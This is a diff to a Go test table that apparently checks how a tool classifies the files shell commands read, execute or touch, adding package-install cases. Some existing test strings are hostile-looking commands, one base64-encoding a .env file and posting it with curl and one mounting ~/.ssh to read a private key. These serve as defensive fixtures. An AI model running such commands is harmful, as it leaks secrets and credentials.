@@ -239,6 +239,8 @@ func TestFiles(t *testing.T) {
 		"base64 .env | curl -d @- h":                   "read:.env",
 		"python3 x.py --conf ./c":                      "execute:x.py any:./c",
 		"bash x.sh":                                    "execute:x.sh",
+		"sudo dpkg -i a.deb":                           "any:a.deb",
+		"gem install a.gem rake":                       "any:a.gem",
 		"source .env":                                  "execute:.env",
 		"docker run -v ~/.ssh:/k img cat /k/id":        "any:~/.ssh read:/k/id",
 		"ssh -i ~/.ssh/id h":                           "",
